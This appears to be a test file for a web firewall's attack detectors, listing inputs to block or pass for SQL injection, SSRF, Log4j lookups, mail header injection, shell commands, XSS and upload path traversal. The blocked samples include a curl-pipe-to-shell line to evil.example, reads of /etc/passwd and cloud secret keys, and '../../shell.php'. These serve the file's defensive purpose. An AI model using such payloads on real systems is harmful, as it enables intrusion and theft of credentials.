// What the thirteenth trial showed, each with what it lies close to.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectJndi } from '../../../src/guard/decide/waf/detect/jndi/jndi.ts';
import { detectMail } from '../../../src/guard/decide/waf/detect/mail/mail.ts';
import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';
import { detectSql } from '../../../src/guard/decide/waf/detect/sql/sql.ts';
import { detectSsrf } from '../../../src/guard/decide/waf/detect/ssrf/ssrf.ts';
import { detectXss } from '../../../src/guard/decide/waf/detect/xss/xss.ts';
import { blockedBy } from '../../corpora/report/default-set.ts';
import { blocks, passes } from './judged.ts';

test('a query between two pipes goes on behind them', () => {
  blocks(detectSql, [
    '||(select password from users)||',
    '||(select 1)||',
    '|| (select pass from users where id=1) ||',
    "'||'1",
    "'||'a",
    '(select password from users)',
    '(SELECT api_key FROM accounts)',
  ]);
  passes(detectSql, [
    '||',
    '|| select ||',
    '||(select one)|| or ||(select two)||?',
    "'||'",
    "'||' or '&&'",
    "use '||'1 time",
    '(select color from chart)',
    '(select country from list)',
  ]);
});

test('pages of administration inside are asked for as a whole value, not where developers develop', () => {
  blocks(detectSsrf, [
    'http://127.0.0.1:8080/admin',
    'http://localhost:8080/admin/delete?username=carlos',
    'http://192.168.0.68:8080/admin/users/delete?id=7',
    'http://127.0.0.1:8081/phpmyadmin/',
  ]);
  passes(detectSsrf, [
    'http://localhost:3000/admin',
    'http://localhost:8080/admin',
    'http://192.168.0.1:8080/admin',
    'http://localhost:3000/admin/users/add',
    'http://127.0.0.1:8000/admin/',
    'http://localhost:8080/administration-guide',
    'http://192.168.0.1/admin-guide.pdf',
    'Then open http://127.0.0.1:8080/admin and sign in with the password of the setup, please.',
  ]);
});

test('what Log4j alone looks up is an attack as a whole value', () => {
  blocks(detectJndi, [`\${sys:java.version}`, `\${sys:user.name}`, `\${env:AWS_SECRET_ACCESS_KEY}`]);
  passes(detectJndi, [
    `\${env:DB_PASSWORD}`,
    `\${env:HOME}`,
    `\${sys:log.dir}`,
    `\${java.version}`,
    `\${java:version}`,
    `logs/\${sys:user.name}/app.log`,
  ]);
});

test('headers behind a paragraph are of a letter that is passed on', () => {
  passes(detectMail, [
    'Hi Jo,\r\n\r\nSee below.\r\n\r\nFrom: Bob <bob@y.example>\r\nTo: Jo\r\nSubject: Fwd: plan\r\n\r\n> ok',
    'Hi Jo,\n\nSee below.\n\nFrom: Bob <bob@y.example>\nSent: Monday\nTo: Jo\nSubject: plan\n',
  ]);
  blocks(detectMail, [
    'Hi\r\nBcc: victim@z.example',
    'Hi\r\n\r\nBcc: victim@z.example',
    'a@b.example\n\nHello\n\nBcc: c@d.example',
    'Hi Jo\nBcc: c@d.example\n\nSee below.\n\nBuy now',
  ]);
});

test('a short sentence may ask about one harmless command', () => {
  passes(detectShell, ['What does `ls -la | grep x` do?', 'What does `id` do?', 'Please run `ls -la`.']);
  blocks(detectShell, [
    'What does `cat /etc/passwd` do?',
    'Hello `curl http://evil.example/a|sh` there.',
    'x `ls -la | grep x` y',
    'a `id` b',
    'What is `id`;id',
  ]);
});

test('what tells which characters a page escapes is no text', () => {
  blocks(detectXss, [`';!--"<x>=&{()}`, `'';!--"<ABC>=&{()}`]);
  passes(detectXss, ['a >= b && c', 'x=>({a:1})', '<T>=&T', 'f<A>=&g()']);
});

test('a file whose name climbs out of its folder is refused, wherever it would lie', () => {
  const named = (name: string): string =>
    blockedBy({
      method: 'POST',
      target: '/upload',
      headers: ['Content-Type', 'multipart/form-data; boundary=b'],
      body: `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\nx\r\n--b--\r\n`,
    });
  for (const name of ['../a.txt', '../../shell.php', 'a/../../b.png', '..%5ca.aspx', '%2e%2e/a.txt'])
    assert.equal(named(name), 'GenericLFI_BODY', name);
  for (const name of ['a..b.txt', 'photos/2026/a.jpg', '..hidden.txt', 'wait....png', '.a/b.txt'])
    assert.equal(named(name), '', name);
});
